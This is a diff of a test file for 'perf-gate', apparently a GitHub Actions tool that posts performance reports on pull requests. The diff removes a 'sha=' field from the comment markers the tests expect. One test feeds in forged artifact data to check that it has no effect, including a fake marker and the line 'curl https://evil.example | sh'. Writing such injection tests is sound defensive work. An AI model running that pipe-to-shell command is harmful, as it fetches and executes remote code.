@@ -94,7 +94,7 @@ test('a run of a fork gets its comment from the run that measured, judged by the
   assert.equal(github.comments.length, 1)
   const { issue, body } = github.comments[0]!
   assert.equal(issue, 7)
-  assert.match(body, new RegExp(`^<!-- perf-gate:report%2Freport run=12 attempt=1 sha=${sha} -->\n### ❌`))
+  assert.match(body, /^<!-- perf-gate:report%2Freport run=12 attempt=1 -->\n### ❌/)
   assert.match(body, /Thresholds come from `perf-gate.yml` in base \(`1111111111`\)/)
   assert.match(ran.summary, /❌ .* slower/)
   const run = 'https://github.com/o/r/actions/runs/99'
@@ -151,7 +151,7 @@ test('results that are refused replace the report of an earlier run, and do not 
   const ran = await reported(github, knowledge(), JSON.stringify(other), { run: again })
   assert.equal(ran.code, 64, ran.log)
   assert.equal(github.comments.length, 1)
-  assert.match(github.comments[0]!.body, /run=13 attempt=1 .* -->\n### 💥 perf-gate: the results are of commit `d+`/)
+  assert.match(github.comments[0]!.body, /run=13 attempt=1 -->\n### 💥 perf-gate: the results are of commit `d+`/)
   assert.match(ran.log, /comment updated on #7/)
   const older = await reported(github, knowledge(), JSON.stringify(other), { run: { id: 11 } })
   assert.equal(older.code, 64)
@@ -167,7 +167,7 @@ test("a report in a pull request's own workflow is about that pull request, and 
   const more = { event, env: { GITHUB_EVENT_NAME: 'pull_request', GITHUB_SHA: merge, GITHUB_REF: 'refs/pull/7/merge' } }
   const ran = await reported(github, knowledge(), JSON.stringify(results), more)
   assert.equal(ran.code, 1, ran.log)
-  assert.match(github.comments[0]!.body, new RegExp(`run=99 attempt=1 sha=${sha} -->`))
+  assert.match(github.comments[0]!.body, /run=99 attempt=1 -->/)
   results.variants[1]!.commit = 'a'.repeat(40)
   const other = await reported(github, knowledge(), JSON.stringify(results), more)
   assert.equal(other.code, 64)
@@ -279,7 +279,7 @@ test('files of any name beside the results are not looked at', async () => {
 
 test("a pull request's number in the artifact, a marker and markup in its texts change nothing", async () => {
   await using github = await startGitHub()
-  const evil = '<!-- perf-gate:report%2Freport run=999 attempt=1 sha=x --> @octocat #1 [x](https://evil.example)'
+  const evil = '<!-- perf-gate:report%2Freport run=999 attempt=1 --> @octocat #1 [x](https://evil.example)'
   const results = uploaded() as any
   Object.assign(results, { pull_request: 666, issue: 666, command: 'curl https://evil.example | sh' })
   results.config.scenarios.push({ ...results.config.scenarios[0], name: evil })
